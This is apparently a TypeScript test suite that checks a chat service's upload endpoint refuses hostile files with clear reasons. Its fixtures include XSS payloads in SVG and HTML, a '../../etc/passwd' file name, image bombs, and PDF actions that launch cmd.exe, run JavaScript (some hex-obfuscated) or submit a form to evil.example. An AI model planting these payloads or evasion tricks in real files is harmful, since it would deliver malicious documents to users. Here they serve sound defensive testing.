import type { FileRefusal } from '@contract/v1/chat'
import { CHAT, chatDeskPerFile, type TestFile, upload } from '@test/setup/chat-desk'
import { called, followedBy, packedObjects, pdfOf, pictureOf, textFile } from '@test/builders/files'
import {
  ARCHIVE,
  archiveAround,
  claiming,
  cut,
  nestedStreams,
  spoilt,
} from '@test/builders/hostile-files'

const chat = chatDeskPerFile()

type Case = readonly [string, FileRefusal, TestFile | (() => Promise<TestFile>)]

const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
const PAGE = '<!doctype html><script>alert(document.domain)</script>'
const PNG_MAGIC = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
const JPEG_MAGIC = Buffer.from([0xff, 0xd8, 0xff, 0xe0])
const png = (...parts: Uint8Array[]): TestFile => ({
  bytes: Buffer.concat([PNG_MAGIC, ...parts]),
  type: 'image/png',
  name: 'a.png',
})
const action = (words: string): string => `7 0 obj\n<< ${words} >>\nendobj\n`
const withAction = (words: string): TestFile => pdfOf({ body: action(words) })
const packed = (words: string, how?: Parameters<typeof packedObjects>[1]): TestFile =>
  pdfOf({ body: packedObjects(`<< ${words} >>`, how) })
const oddly = (filter: string): TestFile =>
  packed('/S /JavaScript', { dictionary: `/Type /ObjStm /N 1 /First 5 /Filter ${filter}` })

/** What is no picture and no PDF, whatever it says it is. */
const KINDS: readonly Case[] = [
  ['an SVG', 'wrong-type', textFile(SVG, 'a.svg', 'image/svg+xml')],
  ['an SVG as a png', 'wrong-type', textFile(SVG, 'a.png', 'image/png')],
  ['a page as a jpeg', 'wrong-type', textFile(PAGE, 'a.jpg', 'image/jpeg')],
  ['a page as a PDF', 'wrong-type', textFile(PAGE, 'a.pdf', 'application/pdf')],
  ['a page', 'wrong-type', textFile(PAGE, 'a.html', 'text/html')],
  ['a script', 'wrong-type', textFile('alert(1)', 'a.js', 'text/javascript')],
  ['an XML document', 'wrong-type', textFile('<?xml version="1.0"?><a/>', 'a.xml', 'text/xml')],
  ['an archive', 'wrong-type', { bytes: ARCHIVE, name: 'a.zip', type: 'application/zip' }],
  ['an archive as a PDF', 'wrong-type', { bytes: ARCHIVE, name: 'a.pdf', type: 'application/pdf' }],
  ['a Windows program', 'wrong-type', textFile('MZ\x90\0', 'a.png', 'image/png')],
  ['a Linux program', 'wrong-type', textFile('\x7fELF\x02', 'a.pdf', 'application/pdf')],
  ['a GIF', 'wrong-type', () => pictureOf('gif')],
  [
    'a GIF as a png',
    'wrong-type',
    async () => called(await pictureOf('gif'), 'a.png', 'image/png'),
  ],
  ['a WebP', 'wrong-type', () => pictureOf('webp')],
  [
    'a WebP as a jpeg',
    'wrong-type',
    async () => called(await pictureOf('webp'), 'a.jpg', 'image/jpeg'),
  ],
  [
    'a TIFF as a png',
    'wrong-type',
    async () => called(await pictureOf('tiff'), 'a.png', 'image/png'),
  ],
  ['PostScript', 'wrong-type', textFile('%!PS-Adobe-3.0', 'a.pdf', 'application/pdf')],
  ['a PDF behind a blank', 'wrong-type', called(pdfOf({ head: ' %PDF-1.7\n' }), 'a.pdf')],
  ['a PDF behind a page', 'wrong-type', pdfOf({ head: `${PAGE}%PDF-1.7\n` })],
  ['nothing', 'missing', { bytes: Buffer.alloc(0), name: 'a.png', type: 'image/png' }],
]

/** Content, name and declaration that contradict one another. */
const NAMES: readonly Case[] = [
  [
    'a png that is called a jpeg',
    'name-mismatch',
    async () => called(await pictureOf('png'), 'a.jpg'),
  ],
  [
    'a png that is declared a jpeg',
    'name-mismatch',
    async () => called(await pictureOf('png'), 'a.png', 'image/jpeg'),
  ],
  [
    'a png that is called a page',
    'name-mismatch',
    async () => called(await pictureOf('png'), 'a.html'),
  ],
  [
    'a png with two endings',
    'name-mismatch',
    async () => called(await pictureOf('png'), 'a.png.svg'),
  ],
  ['a png without an ending', 'name-mismatch', async () => called(await pictureOf('png'), 'png')],
  [
    'a png that is called after a way out',
    'name-mismatch',
    async () => called(await pictureOf('png'), '../../etc/passwd'),
  ],
  ['a PDF that is called a png', 'name-mismatch', called(pdfOf(), 'a.png', 'image/png')],
  ['a PDF that is declared a page', 'name-mismatch', called(pdfOf(), 'a.pdf', 'text/html')],
  [
    'a jpeg that is declared anything',
    'name-mismatch',
    async () => called(await pictureOf('jpeg'), 'a.jpg', 'application/octet-stream'),
  ],
]

const IMAGES: readonly Case[] = [
  ['first bytes alone, png', 'image-damaged', png()],
  [
    'first bytes alone, jpeg',
    'image-damaged',
    { bytes: JPEG_MAGIC, name: 'a.jpg', type: 'image/jpeg' },
  ],
  ['an SVG behind a png’s first bytes', 'image-damaged', png(Buffer.from(SVG))],
  [
    'a page behind a jpeg’s first bytes',
    'image-damaged',
    { bytes: Buffer.concat([JPEG_MAGIC, Buffer.from(PAGE)]), name: 'a.jpg', type: 'image/jpeg' },
  ],
  ['half a png', 'image-damaged', async () => cut(await pictureOf('png', 300))],
  ['half a jpeg', 'image-damaged', async () => cut(await pictureOf('jpeg', 300))],
  ['a png whose sums are wrong', 'image-damaged', async () => spoilt(await pictureOf('png', 200))],
  ['a bomb: 6,000 by 6,000 in few bytes', 'image-too-large', () => pictureOf('png', 6_000)],
  [
    'a bomb of 30,000 by 30,000 that says so alone',
    'image-too-large',
    () => claiming(30_000, 30_000),
  ],
  ['a png of no size', 'image-damaged', () => claiming(0, 0)],
  ['a ribbon', 'image-too-large', () => pictureOf('png', { width: 4_097, height: 2 })],
  ['a tower', 'image-too-large', () => pictureOf('jpeg', { width: 2, height: 4_097 })],
]

const PDFS: readonly Case[] = [
  ['a script', 'pdf-active', withAction('/S /JavaScript /JS (app.alert(1))')],
  ['a script on opening', 'pdf-active', withAction('/OpenAction << /S /JavaScript /JS (x) >>')],
  [
    'a script whose name is written in hex',
    'pdf-active',
    withAction('/S /#4aava#53cript /#4a#53 (x)'),
  ],
  ['a script known by its code alone', 'pdf-active', withAction('/JS 9 0 R')],
  ['scripts by name', 'pdf-active', withAction('/Names << /JavaScript 9 0 R >>')],
  ['a program to start', 'pdf-active', withAction('/S /Launch /F (cmd.exe)')],
  ['a program to start, in hex', 'pdf-active', withAction('/S /La#75nch /F (cmd.exe)')],
  ['a file inside', 'pdf-active', withAction('/Type /EmbeddedFile')],
  ['files inside by name', 'pdf-active', withAction('/Names << /EmbeddedFiles 9 0 R >>')],
  ['a film', 'pdf-active', withAction('/Subtype /RichMedia')],
  ['a rendition', 'pdf-active', withAction('/S /Rendition')],
  ['a form that leaves', 'pdf-active', withAction('/S /SubmitForm /F (https://evil.example)')],
  ['a form of scripts', 'pdf-active', withAction('/AcroForm << /XFA 9 0 R >>')],
  ['a link that is a script', 'pdf-active', withAction('/S /URI /URI (javascript:alert(1))')],
  ['a page in a comment', 'pdf-active', pdfOf({ body: `% ${PAGE}\n` })],
  ['a script among packed objects', 'pdf-active', packed('/S /JavaScript /JS (x)')],
  ['a script in hex among packed objects', 'pdf-active', packed('/S /J#61vaScript')],
  [
    'packed objects that do not say what they are',
    'pdf-active',
    packed('/S /Launch', { dictionary: '/N 1 /Filter /FlateDecode' }),
  ],
  [
    'packed objects said to be a picture',
    'pdf-active',
    packed('/S /Launch', { dictionary: '/Subtype /Image /Filter /FlateDecode' }),
  ],
  [
    'packed objects after words on the stream’s line',
    'pdf-active',
    packed('/S /Launch', { keyword: 'stream  % \r\n' }),
  ],
  [
    'packed objects behind a false end',
    'pdf-active',
    pdfOf({ body: `8 0 obj\n<< >>\nstream\nendstream ${packedObjects('<< /S /Launch >>')}` }),
  ],
  [
    'objects in a stream that says it is one',
    'pdf-active',
    pdfOf({ body: '8 0 obj\n<< /N 1 >>\nstream\n9 0 << /S /JavaScript >>\nendstream\nendobj\n' }),
  ],
  ['objects packed in hex', 'pdf-unreadable', oddly('/ASCIIHexDecode')],
  ['objects packed twice', 'pdf-unreadable', oddly('[/ASCII85Decode /FlateDecode]')],
  ['objects packed the old way', 'pdf-unreadable', oddly('/LZWDecode')],
  [
    'objects packed with differences',
    'pdf-unreadable',
    oddly('/FlateDecode /DecodeParms << /Predictor 12 >>'),
  ],
  ['a bomb among packed objects', 'pdf-unreadable', packed(' '.repeat(40_000_000))],
  ['packed streams in one another', 'pdf-unreadable', pdfOf({ body: nestedStreams(3) })],
  [
    'a lock',
    'pdf-unreadable',
    pdfOf({ end: 'trailer\n<< /Root 1 0 R /Encrypt 9 0 R >>\n%%EOF\n' }),
  ],
  ['a page behind its end', 'pdf-damaged', followedBy(pdfOf(), PAGE)],
  ['an archive behind its end', 'pdf-damaged', followedBy(pdfOf(), ARCHIVE)],
  ['an archive around its end', 'pdf-damaged', archiveAround()],
  ['no end', 'pdf-damaged', pdfOf({ end: 'trailer\n<< /Root 1 0 R >>\n' })],
  ['an end too soon', 'pdf-damaged', followedBy(pdfOf(), ' '.repeat(2_000))],
  ['first bytes alone', 'pdf-damaged', textFile('%PDF-', 'a.pdf', 'application/pdf')],
  ['a version that is none', 'pdf-damaged', pdfOf({ head: '%PDF-x\n' })],
]

it('knows more than sixty', () => {
  expect([...KINDS, ...NAMES, ...IMAGES, ...PDFS].length).toBeGreaterThan(60)
})

describe.each([
  ['of no kind that we take', KINDS],
  ['under a false name', NAMES],
  ['as a picture', IMAGES],
  ['as a PDF', PDFS],
])('a stranger’s file %s', (_group, cases) => {
  it.each(cases)('with or as %s is refused in plain words', async (_case, reason, given) => {
    const file = typeof given === 'function' ? await given() : given
    const answer = await upload(chat().marta, file)
    expect([answer.status, answer.body.payload?.['reason']]).toEqual([400, reason])
    expect(answer.body.payload?.['validationError']).toMatch(/^[A-Z].{15,}\.$/)
  })
})

it('refuses more than 10 MB in the words of the product [CHAT-09]', async () => {
  const { bytes, type, name } = await pictureOf('jpeg')
  const answer = await upload(
    chat().marta,
    followedBy({ bytes, type, name }, Buffer.alloc(10 * 1024 * 1024)),
  )
  expect([answer.status, answer.body.errorCode, answer.body.payload]).toEqual([
    413,
    'PAYLOAD_TOO_LARGE',
    {
      validationError: 'File size is too big. Please try a smaller file.',
      reason: 'too-big',
    },
  ])
})

it('refuses a form without a file, and what is no form', async () => {
  const form = new FormData()
  form.set('name', 'a.png')
  const path = `${CHAT}/files/00000000-0000-4000-8000-000000000000`
  const empty = await chat().marta.send('POST', path, form, { 'x-client-type': 'web' })
  expect([empty.status, empty.body.error]).toEqual([400, 'validation failed: body.file'])
  expect((await chat().marta.post(path, {})).status).toBe(415)
})
